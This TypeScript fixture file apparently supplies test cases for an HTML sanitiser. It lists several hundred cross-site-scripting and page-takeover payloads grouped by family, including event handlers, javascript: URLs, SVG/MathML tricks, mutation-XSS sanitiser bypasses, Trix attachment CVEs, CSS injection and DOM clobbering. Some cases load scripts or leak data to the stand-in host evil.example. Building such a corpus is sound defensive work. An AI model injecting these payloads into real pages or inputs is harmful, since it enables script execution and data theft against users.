/** Ways in which HTML has been made to run a script, ask another server or take a page over; our own cases, by the family and where that is described. */
export const families: { source: string; cases: string[] }[] = [
  {
    source: 'OWASP Cross-Site Scripting Filter Evasion Cheat Sheet: script elements',
    cases: [
      '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script src=//evil.example/x.js></script>', '<script/x>alert(1)</script>', '<script\n>alert(1)</script\n>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>', '<script>alert(1)', '<script src="data:,alert(1)"></script>', '</p><script>alert(1)</script><p>',
      '<script type=module>alert(1)</script>', '<script type="text/javascript" async defer>alert(1)</script>', '<script\u0000>alert(1)</script>', '<p><script>alert(1)</script>after</p>',
      '<script>/*<!--*/alert(1)//--></script>', '<!--<script>--><script>alert(1)</script>', '<script charset="utf-7">alert(1)</script>', '<script language=vbs>alert(1)</script>',
      '<scrİpt>alert(1)</scrİpt>', '<ſcript>alert(1)</ſcript>',
    ],
  },
  {
    source: 'HTML Standard, event handler content attributes; PortSwigger cross-site scripting cheat sheet: events without user interaction',
    cases: [
      '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)">', "<img src=x onerror='alert(1)'>", '<img src=x onerror=alert`1`>', '<IMG SRC=x ONERROR=alert(1)>', '<img/src=x/onerror=alert(1)>',
      '<img src=x\tonerror=alert(1)>', '<img src=x\nonerror\n=\nalert(1)>', '<img src=x onerror=alert(1)//', '<img src=x:x onerror=&#97;lert(1)>', '<img src=x onerror=\\u0061lert(1)>',
      '<body onload=alert(1)>', '<iframe onload=alert(1)></iframe>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)></select>', '<textarea autofocus onfocus=alert(1)></textarea>',
      '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<video src=x onerror=alert(1)></video>', '<audio src=x onerror=alert(1)></audio>', '<marquee onstart=alert(1)>x</marquee>',
      '<a href=# autofocus tabindex=1 onfocus=alert(1)>x</a>', '<p tabindex=1 autofocus onfocusin=alert(1)>x</p>', '<p onanimationstart=alert(1) style="animation:x">x</p>', '<h2 oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</h2>',
      '<object data=x onerror=alert(1)></object>', '<embed src=x onload=alert(1)>', '<link rel=stylesheet href=x onerror=alert(1)>', '<style onload=alert(1)></style>', '<blockquote onmouseover=alert(1)>x</blockquote>',
      '<strong onclick=alert(1)>x</strong>', '<em onpointerrawupdate=alert(1)>x</em>', '<li onbeforexrselect=alert(1)>x</li>', '<figure data-action="warm-homes" onclick=alert(1)></figure>', '<br onload=alert(1)>',
    ],
  },
  {
    source: 'RFC 3986 and the URL Standard: schemes that run or carry code, and ways to hide them (OWASP cheat sheet: javascript directive, encoded)',
    cases: [
      '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
      '<a href="java&#x0A;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
      '<a href="javascript&NewLine;:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="\u00a0javascript:alert(1)">x</a>', '<a href="javascript://%0aalert(1)">x</a>', '<a href="javascript://https://good.example/%0aalert(1)">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="DATA:text/html,x">x</a>',
      '<a href="blob:https://good.example/1">x</a>', '<a href="filesystem:https://good.example/1">x</a>', '<a href="view-source:https://good.example">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="feed:javascript:alert(1)">x</a>',
      '<a href="//evil.example/x">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="/\\evil.example">x</a>', '<a href="/\t/evil.example">x</a>', '<a href="https:javascript:alert(1)" onclick=alert(1)>x</a>', '<a href="x:alert(1)">x</a>',
      '<a href="javascript\u0000:alert(1)">x</a>', '<a href=javascript:alert(1) >x', '<a href="https://good.example" href="javascript:alert(1)">x</a>', '<a HREF="javascript:alert(1)" href="https://good.example">x</a>',
      '<a xlink:href="javascript:alert(1)">x</a>', '<a ping="https://evil.example/ping" href="https://good.example">x</a>', '<a target="javascript:alert(1)" href="https://good.example">x</a>', '<area href="javascript:alert(1)">',
      '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe src="java&Tab;script:alert(1)"></iframe>',
      '<object data="javascript:alert(1)"></object>', '<embed src="data:text/html,<script>alert(1)</script>">', '<math href="javascript:alert(1)">x</math>', '<base href="javascript:/a/">', '<isindex action=javascript:alert(1) type=image>',
    ],
  },
  {
    source: 'SVG 2 and MathML: elements of other namespaces that run, animate or load (html5sec.org: SVG and MathML)',
    cases: [
      '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=alert(1)>', '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" /><a id=x><text>x</text></a></svg>',
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" /></svg>', '<svg><image href=x onerror=alert(1) /></svg>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
      '<svg><style>@import "https://evil.example/x.css"</style></svg>', '<svg><desc><img src=x onerror=alert(1)></desc></svg>', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
      '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
      '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ],
  },
  {
    source: 'Mutation XSS: Heiderich et al., “mXSS Attacks” (CCS 2013), and the published bypasses of DOM sanitisers of 2019 to 2024',
    cases: [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
      '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
      '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">', '<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>', '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
      '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', '<title><a title="</title><img src=x onerror=alert(1)>">', '<style><a title="</style><img src=x onerror=alert(1)>">', '<iframe><a title="</iframe><img src=x onerror=alert(1)>"></iframe>',
      '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>', '<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<!---><img src=x onerror=alert(1)>', '<!--!><img src=x onerror=alert(1)>--!>',
      '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>', '<? ><img src=x onerror=alert(1)>', '<!x ><img src=x onerror=alert(1)>', '</ <img src=x onerror=alert(1)>', '</x><img src=x onerror=alert(1)>',
      '<p>`<img src=x onerror=alert(1)>`</p>', '<table><tr><td><svg><desc><td><img src=x onerror=alert(1)>', '<a title="`><img src=x onerror=alert(1)>">x</a>', '<p><p><p><svg><p><style><!--<p title="--><img src=x onerror=alert(1)>">',
      `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>${'</div>'.repeat(600)}`, `${'<svg><desc>'.repeat(60)}<img src=x onerror=alert(1)>`,
    ],
  },
  {
    source: 'Breaking out of attributes and of text: quotes, entities and half tags (OWASP cheat sheet: malformed tags; HTML Standard, tokenization)',
    cases: [
      '<a href="https://good.example/" "onmouseover=alert(1) x="">x</a>', '<a href=\'https://good.example/"><img src=x onerror=alert(1)>\'>x</a>', '<a href="https://good.example/?&quot;><img src=x onerror=alert(1)>">x</a>', '<a title="x"onclick="alert(1)" href="/">x</a>',
      '<p title=\'"><img src=x onerror=alert(1)>\'>x</p>', '&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<img """><script>alert(1)</script>">',
      '<img src=x onerror=alert(1)', '<p <img src=x onerror=alert(1)>', '<p/onclick=alert(1)/', '<a<b onclick=alert(1)>x', '<figure data-action="&quot;><img src=x onerror=alert(1)>"></figure>', '<figure data-link="javascript:alert(1)"></figure>', '<figure data-link=\'https://good.example/"><img src=x onerror=alert(1)>\'></figure>',
      '<figure data-picture="1 onerror=alert(1)"></figure>', '<figure data-members><img src=x onerror=alert(1)></figure>', '<figure data-action="warm-homes"><img src=x onerror=alert(1)></figure>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
      '<p>\ud83d<img src=x onerror=alert(1)></p>', '<im\u0000g src=x onerror=alert(1)>', '<img src=x onerror\u000b=alert(1)>', '<img\u000csrc=x\u000conerror=alert(1)>',
    ],
  },
  {
    source: 'Trix editor: attachments in stored HTML (advisories CVE-2024-34341, CVE-2025-21610, CVE-2025-46812)',
    cases: [
      '<figure data-trix-attachment="{&quot;contentType&quot;:&quot;text/html5&quot;,&quot;content&quot;:&quot;&lt;img src=x onerror=alert(1)&gt;&quot;}"></figure>', '<figure data-trix-attachment=\'{"contentType":"text/html","content":"<script>alert(1)</script>"}\'>x</figure>',
      '<figure data-trix-attachment=\'{"contentType":"application/vnd.commonweal.action","value":"\\"><img src=x onerror=alert(1)>"}\'></figure>', '<figure data-trix-attachment=\'{"contentType":"application/vnd.commonweal.link","value":"javascript:alert(1)"}\'></figure>',
      '<figure data-trix-attachment=\'{"contentType":"application/vnd.commonweal.constructor","value":"x"}\'></figure>', '<figure data-trix-attachment="not json"><img src=x onerror=alert(1)></figure>', '<div data-trix-attachment=\'{"content":"<svg/onload=alert(1)>"}\'></div>',
      '<span data-trix-serialized-attributes=\'{"onmouseover":"alert(1)"}\'>x</span>', '<a data-trix-mutable data-trix-id=1 href="javascript:alert(1)">x</a>', '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)" data-trix-attachment=\'{}\'></style></mglyph></table></mtext></math>',
    ],
  },
  {
    source: 'CSS: code, requests and covering the page (OWASP cheat sheet: STYLE; CSS injection write-ups)',
    cases: [
      '<style>@import "https://evil.example/x.css";</style>', '<style>body{background:url(https://evil.example/x)}</style>', '<p style="background:url(https://evil.example/x)">x</p>', '<p style="position:fixed;inset:0">x</p>', '<p style="width:expression(alert(1))">x</p>', '<p style="behavior:url(x.htc)">x</p>',
      '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>', '<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=import href="https://evil.example/x">', '<p class="savebar" id="main">x</p>', '<font color="url(https://evil.example/x)">x</font>', '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    ],
  },
  {
    source: 'DOM clobbering and taking a page over: names, bases, redirects, frames, forms (Heyes; OWASP DOM Clobbering Prevention)',
    cases: [
      '<form id=main name=cookie><input name=attributes></form>', '<a id=defaultView href="https://evil.example">x</a>', '<img name=currentScript>', '<a id=x><a id=x name=y href="https://evil.example">', '<iframe name=top></iframe>', '<p id="mend">x</p>', '<base href="https://evil.example/">', '<base target="_blank">',
      '<meta http-equiv=refresh content="0;url=https://evil.example">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta charset=utf-7>', '<meta name=referrer content=unsafe-url>', '<link rel=prefetch href="https://evil.example/x">', '<link rel=dns-prefetch href="//evil.example">', '<link rel=manifest href="https://evil.example/m.json">',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="https://evil.example/x"></iframe>', '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>', '<img src="https://evil.example/pixel.gif">', '<img srcset="https://evil.example/x 1x">', '<picture><source srcset="https://evil.example/x"><img></picture>',
      '<video poster="https://evil.example/x"></video>', '<audio src="https://evil.example/x" autoplay></audio>', '<object data="https://evil.example/x"></object>', '<applet code="https://evil.example/x"></applet>', '<input type=image src="https://evil.example/x">', '<track src="https://evil.example/x">', '<dialog open onclose=alert(1)>x</dialog>', '<slot onslotchange=alert(1)>x</slot>',
      '<p popover id=p>x</p><button popovertarget=p onclick=alert(1)>x</button>', '<template shadowrootmode=open><img src=x onerror=alert(1)></template>', '<passkey-add data-steps="https://evil.example"></passkey-add>', '<form method=post action="/office/stories/1"><input type=hidden name=_method value=DELETE><button>x</button></form>',
    ],
  },
]

export const scriptCases = families.flatMap(({ cases }) => cases)
